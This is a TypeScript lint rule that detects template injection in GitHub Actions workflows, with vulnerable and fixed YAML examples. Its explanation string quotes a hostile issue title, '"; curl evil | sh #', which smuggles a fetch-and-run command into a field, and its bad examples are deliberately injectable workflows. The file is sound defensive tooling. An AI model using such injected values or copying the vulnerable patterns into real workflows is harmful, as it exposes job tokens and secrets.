import { Step } from '../../kinds/actions.ts'
import type { Path } from '../../model/source.ts'
import { parseExpression } from '../../syntax/expression/parse.ts'
import { expressionsIn } from '../../syntax/expression/template.ts'
import type { Check } from '../check.ts'
import { flowBefore, layersOf, openIn, openOutputOf } from './open-flow.ts'
import { codeInputs } from './open-text.ts'
import { parseReference } from './reference.ts'
import { jobOf, workflowOf } from './surroundings.ts'
import { movedToEnv } from './to-env.ts'

export const check: Check<Step> = {
  title: 'Text of strangers is run as code',
  why: `\`\${{ }}\` is filled in before the shell sees the script, so an issue titled \`"; curl evil | sh #\` runs, with the job's
token and secrets. Hand the text over as an environment variable and use that, quoted, in the script.`,
  severity: 'critical',
  level: 'default',
  on: Step,
  fix: 'safe',
  controls: ['soc2/CC6.8', 'nist-800-53/SI-7'],
  sources: ['zizmor/template-injection', 'actionlint/expression', 'checkov/CKV_GHA_2', 'poutine/injection'],
  *run(step, { resource }) {
    const job = jobOf(resource)
    const index = Number(resource.path.at(-1))
    const steps = job?.steps ?? []
    const flow = flowBefore(steps, index, ...layersOf(job && workflowOf(resource), job))
    const isOpen = (inner: string) => {
      const parsed = parseExpression(inner)
      return 'flaw' in parsed ? undefined : (openIn(parsed.expression, flow) ?? openOutputOf(steps, parsed.expression))
    }
    for (const { text, at } of sinksOf(step)) {
      const open = expressionsIn(text)
        .map(({ text: inner }) => isOpen(inner))
        .find((each) => each !== undefined)
      if (open === undefined) continue
      const changes = at[0] === 'run' ? movedToEnv(step, job, (inner) => isOpen(inner) !== undefined) : undefined
      yield {
        at,
        message: `Anybody can write \`${open}\`, and here it becomes part of the script; pass it through \`env\` and quote it`,
        ...(changes && { changes }),
      }
    }
  },
  examples: [
    {
      bad: `
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "New issue \${{ github.event.issue.title }}"
      `,
      good: `
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "New issue \${ISSUE_TITLE}"
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
      `,
    },
    {
      bad: `
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-24.04
            env:
              BRANCH: \${{ github.head_ref }}
            steps:
              - run: |
                  git fetch origin
                  git switch \${{ env.BRANCH }}
      `,
      good: `
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-24.04
            env:
              BRANCH: \${{ github.head_ref }}
            steps:
              - run: |
                  git fetch origin
                  git switch \${BRANCH}
      `,
    },
  ],
}

/** What a step runs as code. */
function* sinksOf({ run, uses = '', with: inputs }: Step): Iterable<{ readonly text: string; readonly at: Path }> {
  if (run !== undefined) yield { text: run, at: ['run'] }
  const action = parseReference(uses)?.repository.toLowerCase() ?? ''
  for (const name of codeInputs[action] ?? []) {
    const text = inputs?.[name]
    if (typeof text === 'string') yield { text, at: ['with', name] }
  }
}
